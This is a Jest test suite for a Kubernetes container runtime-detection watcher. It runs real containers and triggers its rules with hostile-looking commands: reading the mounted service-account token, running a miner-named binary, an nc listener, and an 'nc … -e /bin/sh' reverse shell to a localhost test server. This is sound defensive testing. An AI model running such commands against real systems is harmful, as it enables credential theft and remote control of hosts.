import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { KubeView } from '../../../core/kube/kube-view.js';
import type { KubeObject } from '../../../core/kube/types.js';
import type { Detection } from '../../../core/runtime/detection.js';
import { RuleEngine } from '../../../core/runtime/rule-engine.js';
import { loadRuleSet } from '../../../core/runtime/rule-file.js';
import { builtinRuntimeRulesDir } from '../../../core/runtime/rules-dir.js';
import { RuntimeWatcher } from '../../../core/runtime/watcher.js';
import {
  type ContainerSpec,
  podOf,
  type RuncContainer,
  startContainer,
} from '../../harness/runc/runc-container.js';

// Real containers: runc runs busybox-static root filesystems in kubelet-style cgroups; tests run as root.
const canRun = process.getuid?.() === 0;

const pods: KubeObject[] = [];
const kube: KubeView = {
  list: async (kind) => (kind === 'Pod' ? pods : []),
  get: async () => undefined,
};

let stateRoot: string;
let tokenFile: string;
let watcher: RuntimeWatcher;
const detections: Detection[] = [];
const containers: RuncContainer[] = [];

async function podContainer(name: string, spec: ContainerSpec, runAsNonRoot = false): Promise<RuncContainer> {
  const c = await startContainerWithPod(name, spec, runAsNonRoot);
  containers.push(c);
  return c;
}

// The pod is listed before its container runs, as the kubelet reports containerStatuses once it starts.
async function startContainerWithPod(name: string, spec: ContainerSpec, runAsNonRoot: boolean) {
  const c = await startContainer(stateRoot, spec);
  pods.push(podOf(c, { name, namespace: 'shop', runAsNonRoot }));
  return c;
}

/**
 * Detections for one container: waits for `expected` of them (up to 8 s: other suites share the two cores),
 * then 1.5 s more, long enough for the socket poll to run twice, so extra detections would show.
 */
async function settled(c: RuncContainer, expected = 1): Promise<Detection[]> {
  const mine = () => detections.filter((x) => x.container?.id === c.id);
  for (let waited = 0; waited < 8000 && mine().length < expected; waited += 100)
    await new Promise((r) => setTimeout(r, 100));
  await new Promise((r) => setTimeout(r, 1500));
  return mine();
}

beforeAll(async () => {
  if (!canRun) throw new Error('runtime container tests need root (runc): run them as root, as .ci/run does');
  stateRoot = await mkdtemp(join(tmpdir(), 'seco-runc-state-'));
  tokenFile = join(stateRoot, 'token');
  await writeFile(tokenFile, 'eyJhbGciOiJSUzI1NiJ9.fake.token');
  const engine = new RuleEngine(await loadRuleSet([builtinRuntimeRulesDir()]));
  watcher = new RuntimeWatcher({
    procRoot: '/proc',
    node: 'node-1',
    rules: engine,
    kube,
    // This file is the connector's: the eBPF sensor (the default where it loads) has ebpf-sensor.test.ts.
    source: 'netlink',
    listenIntervalMs: 500,
    onDetection: (x) => {
      if (process.env.SECO_DEBUG) process.stderr.write(`${JSON.stringify(x)}\n`);
      detections.push(x);
    },
    onLog: (l) => process.env.SECO_DEBUG && process.stderr.write(`${l}\n`),
  });
  await watcher.start();
}, 60_000);

afterAll(async () => {
  if (!canRun) return;
  watcher.stop();
  await Promise.all(containers.map((c) => c.remove()));
  await rm(stateRoot, { recursive: true, force: true });
}, 60_000);

describe('runtime watcher on runc containers', () => {
  test('uses the kernel process-events connector', () => {
    expect(watcher.stats.source).toBe('netlink');
  });

  test('a quiet container produces nothing', async () => {
    const c = await podContainer('quiet', {});
    expect(await settled(c, 0)).toEqual([]);
  }, 30_000);

  test('a shell exec into a container is an interactive shell, attributed to its pod', async () => {
    const c = await podContainer('shell', {});
    // `kubectl exec -i … -- sh`: a shell reading commands from stdin (open 100 ms, then end of input).
    await c.exec(['sh'], { stdinOpenMs: 100 });
    const found = await settled(c);
    expect(found.map((x) => x.ruleId)).toEqual(['interactive-shell-in-container']);
    expect(found[0]).toMatchObject({
      pod: { namespace: 'shop', name: 'shell', uid: c.podUid },
      container: { id: c.id, name: 'app', image: 'busybox:1.35' },
      process: { name: 'sh', cmdline: 'sh' },
      source: 'netlink',
    });
  }, 30_000);

  test('reading the mounted service-account token', async () => {
    const c = await podContainer('token', { tokenFile });
    // `-`: cat then reads stdin too, so it lives 100 ms. A 1 ms cat is caught most of the time, not always
    // (docs/benchmarks.md, Runtime); this test is about the rule and attribution, not that race.
    await c.exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token', '-'], { stdinOpenMs: 100 });
    expect((await settled(c)).map((x) => x.ruleId)).toEqual(['service-account-token-read']);
  }, 30_000);

  test('a binary with a miner name', async () => {
    const c = await podContainer('miner', {});
    await c.exec(['xmrig', '--donate-level', '1']);
    expect((await settled(c)).map((x) => x.ruleId)).toEqual(['crypto-miner']);
  }, 30_000);

  test('a binary run from /tmp is drift', async () => {
    const c = await podContainer('drift', {});
    await c.exec(['/tmp/sleep', '0.1']);
    expect((await settled(c)).map((x) => x.ruleId)).toEqual(['drift-executable-not-in-image']);
  }, 30_000);

  test('a new listening port', async () => {
    const c = await podContainer('listener', {});
    await c.exec(['nc', '-l', '-p', '8080'], { detach: true });
    const found = await settled(c);
    expect(found.map((x) => x.ruleId)).toEqual(['new-listening-socket']);
    expect(found[0]!.output).toContain(':8080');
  }, 30_000);

  test('root in a pod that declared runAsNonRoot', async () => {
    const c = await podContainer('nonroot', {}, true);
    expect((await settled(c)).map((x) => x.ruleId)).toEqual(['root-process-in-non-root-pod']);
  }, 30_000);

  test('a shell whose stdio are sockets is a reverse shell', async () => {
    const received: Buffer[] = [];
    const server: Server = createServer((socket) => {
      socket.on('data', (b) => received.push(b));
      setTimeout(() => socket.end('exit\n'), 300);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    try {
      const c = await podContainer('revshell', { hostNetwork: true });
      await c.exec(['nc', '127.0.0.1', String(port), '-e', '/bin/sh'], { detach: true });
      expect((await settled(c)).map((x) => x.ruleId)).toEqual(['reverse-shell']);
    } finally {
      server.close();
    }
  }, 30_000);
});
